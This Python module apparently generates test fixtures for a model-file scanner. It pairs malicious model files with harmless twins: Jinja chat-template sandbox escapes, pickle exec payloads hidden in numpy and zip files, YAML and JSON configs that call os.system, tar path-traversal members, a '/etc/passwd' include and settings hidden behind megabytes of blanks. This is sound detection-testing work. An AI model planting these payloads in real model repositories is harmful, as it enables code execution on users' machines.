"""Malicious files of the kinds that are easily mistaken, each with a harmless twin.

A twin is the same file with what does harm taken out of it: it has to stay clean.
"""

import base64
import io
import json
import marshal
import pickle
import tarfile
import zipfile
from dataclasses import dataclass

import numpy
import torch
from torch import nn

from assemble import (
    CANARY, EVAL, EXEC, SHELL, STOP, call, proto, stack_global, text)

EVIL = proto(4) + call(stack_global("builtins", "exec"), text(EXEC)) + STOP
MIB = 1 << 20


@dataclass(frozen=True)
class Pair:
    """A file that does harm and one that does none, both under one name."""

    name: str
    evil: bytes
    twin: bytes
    # It runs only if the loader is told to trust the repository: `suspicious` says enough.
    trusted: bool = False
    # The twin is code as well, or names some, which nobody here can know to be harmless.
    unknown: bool = False


def computed_template():
    """Jinja templates that put together the names they reach for."""
    reach = "{%% set u = %s %%}{{ cycler[u ~ 'init' ~ u][u ~ 'globals' ~ u].os.system(" + repr(SHELL) + ") }}"
    honest = "{%% set u = %s %%}{%% for m in messages %%}{{ u ~ m['con' ~ 'tent'] ~ u }}{%% endfor %%}"
    ways = {
        "times": "'_' * 2", "join": "['_', '_'] | join", "slice": "'x_x_'[1::2]", "lower": "'__' | lower",
        "replace": "'xx' | replace('x', '_')", "format": "'%s%s' % ('_', '_')", "reverse": "'__' | reverse",
        "centred": "'{:_^2}'.format('')", "adjacent": "'_' '_'",
    }
    for name, made in ways.items():
        yield Pair(f"{name}.jinja", (reach % made).encode(), (honest % made).encode())
    for name, (evil, twin) in {
        "whole": ("{% set k %}__init__{% endset %}{{ cycler[k].x }}", "{% set k %}role{% endset %}{{ m[k] }}"),
        "mapped": ("{{ [m] | map(attribute='_' * 2 ~ 'class' ~ '_' * 2) | list }}",
                   "{{ messages | map(attribute='con' ~ 'tent') | list }}"),
        "dictionaries": ("{{ {'a': {'b': 1}}.__class__.__mro__ }}", "{{ {'a': {'b': 1}}.a.b }}"),
        "raw": ("{% raw %}{#{% endraw %}{{ ''.__class__ }}", "{% raw %}{#{{ ''.__class__ }}{% endraw %}{{ x }}"),
        "letters": ("{{ m['\\N{LOW LINE}_class_\\N{LOW LINE}'] }}", "{{ m['\\N{LATIN SMALL LETTER A}b'] }}"),
        "namespace": ("{% set ns = namespace(u='_') %}{{ m[ns.u*2 ~ 'init' ~ ns.u*2] }}",
                      "{% set ns = namespace(u='ro') %}{{ m[ns.u ~ 'le'] }}"),
        "caller": ("{% set n = namespace(o=namespace) %}{% macro f() %}{% set c = caller() %}{% set n.o = n.o[c] or n.o %}"
                   "{% endmacro %}{% call f() %}__init__{% endcall %}{% call f() %}__globals__{% endcall %}"
                   "{{ n.o['o' ~ 's']['popen'](" + repr(SHELL) + ").read() }}",
                   "{% macro f() %}<b>{{ caller() }}</b>{% endmacro %}{% call f() %}__init__{% endcall %}"),
        "handed_caller": ("{% macro f() %}{{ ''[caller()] }}{% endmacro %}{% macro g() %}__class__{% endmacro %}"
                          "{{ f(caller=g) }}",
                          "{% macro f() %}{{ caller() }}{% endmacro %}{% macro g() %}__class__{% endmacro %}"
                          "{{ f(caller=g) }}"),
        "filtered_block": ("{% set k | replace('x', '_') %}xxclassxx{% endset %}{{ ''[k] }}",
                           "{% set k | replace('x', '_') %}xxclassxx{% endset %}{{ k }}"),
        "filter": ("{% set k %}{% filter lower %}__CLASS__{% endfilter %}{% endset %}{{ ''[k] }}",
                   "{% set k %}{% filter lower %}__CLASS__{% endfilter %}{% endset %}{{ k }}"),
        "letter_by_letter": ("{% set n = namespace(s='') %}{% for x in ['_', '_class', '_'] %}{% set n.s = n.s ~ x %}"
                             "{% endfor %}{{ ''[n.s] }}",
                             "{% set n = namespace(s='') %}{% for x in ['_', '_class', '_'] %}{% set n.s = n.s ~ x %}"
                             "{% endfor %}{{ n.s }}"),
        "macro": ("{% macro a() %}__class__{% endmacro %}{% macro b() %}{{ a() }}{% endmacro %}{{ ''[b()] }}",
                  "{% macro a() %}__class__{% endmacro %}{% macro b() %}{{ a() }}{% endmacro %}{{ b() }}"),
        "translated": ("{{ ''['XXclassXX'.translate({88: 95})] }}", "{{ 'XXclassXX'.translate({88: 95}) }}"),
        "macro_name": ("{% macro gi_code() %}{% endmacro %}{{ (messages | map('upper'))[gi_code.name] }}",
                       "{% macro tool() %}{% endmacro %}{{ messages | map('upper') | list }}"),
    }.items():
        yield Pair(f"{name}/tokenizer_config.json", json.dumps({"chat_template": evil}).encode(),
                   json.dumps({"chat_template": twin}).encode())


def rewritten(archive, ending, old, new):
    """An archive with a text replaced in the entries whose names end so."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as source, zipfile.ZipFile(out, "w") as target:
        for entry in source.infolist():
            data = source.read(entry)
            changed = data.replace(old, new) if entry.filename.endswith(ending) else data
            target.writestr(entry.filename, changed)
    assert new in out.getvalue()
    return out.getvalue()


class Speaks(nn.Module):
    """Its compiled code has a text with quotes in it."""

    def forward(self, x: torch.Tensor):
        return x * 2, 'say """ and \\ and \' torch.save(x, "y")'


def torchscript_code():
    """TorchScript whose call stands behind a string that ends late."""
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(Speaks()), buffer)
    twin = buffer.getvalue()
    quoted = {"triple": r'"""\""""', "single_triple": r"''' \\'''", "quote": r"'\''"}
    for name, before in quoted.items():
        line = f"    _9 = ({before}, torch.save(x, '{CANARY}'))\n    return ".encode()
        yield Pair(f"quoted_{name}.pt", rewritten(twin, ".py", b"    return ", line), twin)


class Doubled(nn.Module):
    def forward(self, x):
        return torch.relu(torch.cat([x, x])).sum(1)


def exported_program():
    """torch.export: what a node calls, and sizes that sympy evaluates while the file is opened."""
    buffer = io.BytesIO()
    rows = torch.export.Dim("rows")
    torch.export.save(torch.export.export(Doubled(), (torch.ones(8, 3),), dynamic_shapes=({0: rows},)), buffer)
    twin = buffer.getvalue()
    relu = b'"torch.ops.aten.relu.default"'
    size = b'"expr_str": "'
    for name, old, new in (
            ("target", relu, b'"torch.serialization.os.mkdir"'),
            ("file", relu, b'"torch.ops.aten.from_file.default"'),
            ("save", relu, b'"torch.save"'),
            ("size", size, size + json.dumps(f"eval({EVAL!r}) or ")[1:-1].encode())):
        yield Pair(f"{name}.pt2", rewritten(twin, ".json", old, new), twin)


def saved(array):
    buffer = io.BytesIO()
    numpy.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def objects():
    """An array of objects whose pickle is the payload."""
    header = saved(numpy.array([None], dtype=object))
    return header[: header.index(b"\n") + 1] + EVIL


def numpy_object():
    """Data behind an array, and entries that zip packs by other means."""
    numbers = saved(numpy.eye(3, dtype="float32"))
    yield Pair("behind_array.npy", numbers + objects(), numbers + numbers)
    yield Pair("behind_pickle.npy", numbers + EVIL, numbers + saved(numpy.arange(4)))
    yield Pair("behind_zeros.npy", numbers + bytes(3) + EVIL, numbers)
    yield Pair("behind_objects.npy", saved(numpy.array([{}], dtype=object)) + objects(),
               saved(numpy.array([{"a": 1}], dtype=object)) + numbers)
    for name, method in (("bzip2", zipfile.ZIP_BZIP2), ("lzma", zipfile.ZIP_LZMA)):
        def packed(last, method=method):
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w", method) as archive:
                archive.writestr("x.npy", numbers)
                archive.writestr("y.npy", last)
            return buffer.getvalue()
        yield Pair(f"{name}.npz", packed(objects()), packed(numbers))
        yield Pair(f"{name}_behind.npz", packed(numbers + EVIL), packed(saved(numpy.array([{}], dtype=object))))


def yaml_tag():
    """YAML whose tags make objects, or whose targets are called, however it is written."""
    argument = json.dumps(SHELL)
    for number, (evil, twin) in enumerate((
            (f"a: !!pyth%6fn/object/apply:os.system [{argument}]", "a: !!pyth%6fn/tuple [1, 2]"),
            (f"a: !<tag:yaml.org,2002:pyth%6Fn/object/apply:os.system> [{argument}]", "a: !<tag:yaml.org,2002:str> x"),
            (f"%TAG ! tag:yaml.org,2002:pyth\n---\na: !on/object/apply:os.system [{argument}]",
             "%TAG ! tag:yaml.org,2002:\n---\na: !str x"),
            (f"a: !!python/object/new:subprocess.Popen [[touch, {CANARY}]]", "a: !!python/tuple [1]"),
            (f"_target_:\n  os.system\ncommand: {argument}", "_target_:\n  torch.nn.Linear\nin_features: 2"),
            (f'"\\x5ftarget_": "os\\x2esystem"\ncommand: {argument}', '"\\x5ftarget_": "torch.nn.ReLU"'),
            (f"? _target_\n: os.system\ncommand: {argument}", "? _target_\n: torch.nn.ReLU"),
            (f"x: &x os.system\n_target_: *x\ncommand: {argument}", "x: &x torch.nn.ReLU\n_target_: *x"),
            (f"_target_: >-\n  os.system\ncommand: {argument}", "_target_: >-\n  torch.nn.ReLU\n"),
            (f"a: !apply:os.system [{argument}]", "a: !apply:torch.manual_seed [1]"),
            (f"a: !new:subprocess.Popen [[touch, {CANARY}]]",
             "a: !new:torch.nn.Linear [2, 3]\nb: !ref <a>\nc: !name:torch.optim.Adam {lr: 0.1}"),
            (f"%TAG !e! !app\n---\na: !e!ly:os.system [{argument}]", "a: !copy <b>\nb: !include:relative.yaml"),
            ("a: !include:/etc/passwd", "a: !PLACEHOLDER"),
            ("a: !module:os", "a: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN {input_size: 80}"),
            ("flavors: {python_function: {loader_module: os}}", "flavors: {python_function: {loader_module: mlflow.sklearn}}"),
            ("model: {target: subprocess.Popen, params: {args: x}}",
             "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params: {a: 1}"))):
        yield Pair(f"{number}.yaml", evil.encode(), twin.encode())


def keras_file(layer):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("metadata.json", '{"keras_version": "3.8.0"}')
        archive.writestr("config.json", json.dumps(
            {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}))
    return buffer.getvalue()


def keras_function():
    """A function of Keras where a class is due is called with the settings."""
    dense = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": {
        "module": "keras.activations", "class_name": "function", "config": "relu", "registered_name": "relu"}}}
    for name, module, function in (("get_file", "keras.utils", "get_file"), ("load_model", "keras.models", "load_model"),
                                   ("inner", "keras.src.saving.saving_lib", "load_model"),
                                   ("unsafe", "keras.config", "enable_unsafe_deserialization")):
        layer = {"module": module, "class_name": function, "config": {"origin": "http://127.0.0.1/x"}}
        yield Pair(f"{name}.keras", keras_file(layer), keras_file(dense))


def settings_callable():
    """Settings whose texts are imported and called."""
    for name, evil, twin in (
            ("target", {"a": [{"_target_": "torch.serialization.os.system", "command": SHELL}]},
             {"a": [{"_target_": "torch.nn.Linear", "in_features": 2}]}),
            ("activation", {"sentence_transformers": {"activation_fn": "torch.serialization.os.abort"}},
             {"sentence_transformers": {"activation_fn": "torch.nn.modules.activation.Sigmoid"}}),
            ("activation_function", {"activation_function": "os.abort"}, {"activation_function": "gelu_new"}),
            ("cross_encoder", {"sbert_ce_default_activation_function": "subprocess.getoutput"},
             {"sbert_ce_default_activation_function": "torch.nn.modules.linear.Identity"}),
            ("gluonts", {"__kind__": "instance", "class": "os.system", "args": [SHELL]},
             {"__kind__": "instance", "class": "torch.nn.Linear", "args": [2, 3]}),
            ("jsonpickle", {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [SHELL]}]},
             {"py/object": "collections.OrderedDict"}),
            ("jsonpickle_repr", {"a": {"py/repr": f"os/os.system({SHELL!r})"}}, {"a": {"py/tuple": [1]}}),
            ("langchain", {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": SHELL}},
             {"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "PromptTemplate"], "kwargs": {}}),
            ("haystack", {"components": {"x": {"type": "subprocess.Popen"}}},
             {"components": {"x": {"type": "haystack.components.builders.PromptBuilder"}}}),
            ("agent", {"tools": [{"name": "x", "code": f"import os\nos.system({SHELL!r})"}]},
             {"tools": [{"name": "x", "description": "os.system"}]}),
            ("genai_config", {"model": {"decoder": {"session_options": {"custom_ops_library": "lib/x.so"}}}},
             {"model": {"decoder": {"session_options": {"provider_options": [{"qnn": {"backend_path": "QnnHtp.dll"}}]}}}}),
            ("pipeline/model_index", {"_class_name": "P", "scheduler": ["subprocess", "Popen"]},
             {"_class_name": "P", "scheduler": ["diffusers", "DDIMScheduler"]}),
            ("monai", {"imports": ["$import os"], "run": f"$os.system({SHELL!r})", "a": {"_target_": "Compose"}},
             {"network": {"_target_": "UNet", "channels": "@channels"}, "cost": "$5"}),
            ("monai_import", {"imports": ["$import subprocess"]}, {"imports": []}),
            ("monai_hidden", {"bundle_root": ".", "epochs": f"$__import__('os').system({SHELL!r})"},
             {"bundle_root": ".", "epochs": 3, "rate": "$@rate * 2"})):
        yield Pair(f"{name}.json", json.dumps(evil).encode(), json.dumps(twin).encode())


def notebook(*lines):
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": list(lines)}
    words = {"cell_type": "markdown", "metadata": {}, "source": ["exec(x) runs x"]}
    return json.dumps({"cells": [words, cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def code_beside():
    """Code that runs where the loader is told to trust the repository, or where somebody runs it."""
    code = base64.b64encode(marshal.dumps(compile(EXEC, "payload", "exec"))).decode()
    yield Pair("train.ipynb", notebook("import os\n", f"os.system({SHELL!r})"), notebook("print(1)"), unknown=True)
    yield Pair("magic.ipynb", notebook(f"import marshal, base64\nexec(marshal.loads(base64.b64decode('{code}')))"),
               notebook("import torch\n", "torch.compile(model)"), unknown=True)
    yield Pair("modeling_alias.py", f"import os as o\no.system({SHELL!r})\n".encode(),
               b"import os as o\no.path.join('a', 'b')\n", unknown=True)
    yield Pair("setup.sh", f"#!/bin/sh\n{SHELL}\n".encode(), b"#!/bin/sh\nexit 0\n", trusted=True, unknown=True)
    yield Pair("setup.bat", f"type nul > {CANARY}\r\n".encode(), b"exit\r\n", trusted=True, unknown=True)
    for name, value in (("table", {"AutoModel": "modeling.Mine"}), ("text", "modeling.Mine"),
                        ("list", ["modeling.Mine", None])):
        yield Pair(f"auto_map_{name}/config.json", json.dumps({"model_type": "bert", "auto_map": value}).encode(),
                   json.dumps({"model_type": "bert", "auto_map": None}).encode(), trusted=True)


def encoded_pickle():
    """Pickles in base64: archives of stable-baselines3, and any other JSON."""
    def policy(data):
        text = json.dumps({"policy_class": {":type:": "x", ":serialized:": base64.b64encode(data).decode()}})
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("data", text)
            archive.writestr("_stable_baselines3_version", "2.3.0")
        return buffer.getvalue()

    plain = pickle.dumps({"lr": 0.1, "layers": [64, 64]}, 4)
    yield Pair("policy.zip", policy(EVIL), policy(plain))
    yield Pair("policy0.zip", policy(b"cos\nsystem\n(S'true'\ntR."), policy(pickle.dumps([1], 0)))
    for name, evil in (("frame", EVIL), ("protocol2", proto(2) + EVIL[2:])):
        texts = [json.dumps({"a": [base64.b64encode(data).decode()]}).encode() for data in (evil, plain)]
        yield Pair(f"{name}.json", *texts)


def leaving_member():
    """Members of a tar that are unpacked elsewhere."""
    def archive(name, kind=tarfile.REGTYPE, link="", mode="w"):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode=mode) as file:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, link
            info.size = 5 if kind == tarfile.REGTYPE else 0
            file.addfile(info, io.BytesIO(b"words"))
        return buffer.getvalue()

    deep = "d/" * 80
    for name, *evil in (("up.tar", "../../x"), ("absolute.tar", "/tmp/x"), ("long.tar", deep + "../" * 82 + "x"),
                        ("link.tar", "l", tarfile.SYMTYPE, "/etc"), ("hard.tar", "l", tarfile.LNKTYPE, "../../x"),
                        ("device.tar", "d", tarfile.CHRTYPE), ("up.nemo", "a/../../x")):
        yield Pair(name, archive(*evil), archive(deep + "x.txt"), trusted=True)
    for mode in ("gz", "bz2", "xz"):
        yield Pair(f"up.tar.{mode}", archive("../../x", mode=f"w:{mode}"), archive("a/x.txt", mode=f"w:{mode}"), trusted=True)


def passed_over():
    """Files that no loader of models reads, and that run where they lie or when somebody opens them."""
    for name, data in (("x.vbs", b'CreateObject("WScript.Shell")\r\n'), ("x.hta", b"<script></script>"),
                       ("x.desktop", b"[Desktop Entry]\nExec=true\n"), ("x.rds", b"X\n\0\0\0\3"),
                       ("x.ser", b"\xac\xed\0\5sr\0\1X")):
        yield Pair(name, data, data, trusted=True, unknown=True)
    yield Pair("paths.pth", b"import os; os.system('true')\n", b"import torch\n", unknown=True)


def long_settings():
    """Settings behind blanks, more than a scanner reads."""
    for name in ("config.json", "chat_template.json", "processor_config.json", "adapter_config.json"):
        evil = json.dumps({"chat_template": "{{ ''.__class__ }}", "auto_map": {"AutoModel": "m.M"}}).encode()
        yield Pair(f"{name[:-5]}/{name}", b" " * (5 * MIB) + evil, b" " * (3 * MIB) + b'{"chat_template": "{{ x }}"}')


KINDS = (computed_template, torchscript_code, exported_program, numpy_object, yaml_tag, keras_function,
         settings_callable, code_beside, encoded_pickle, leaving_member, passed_over, long_settings)


def malicious(shelf):
    for kind in KINDS:
        for pair in kind():
            shelf.add(kind.__name__, f"twins/{pair.name}", pair.evil, trusted=pair.trusted)


def harmless(shelf):
    for kind in KINDS:
        for pair in kind():
            shelf.add(kind.__name__, f"twins/{pair.name}", pair.twin, unknown=pair.unknown)
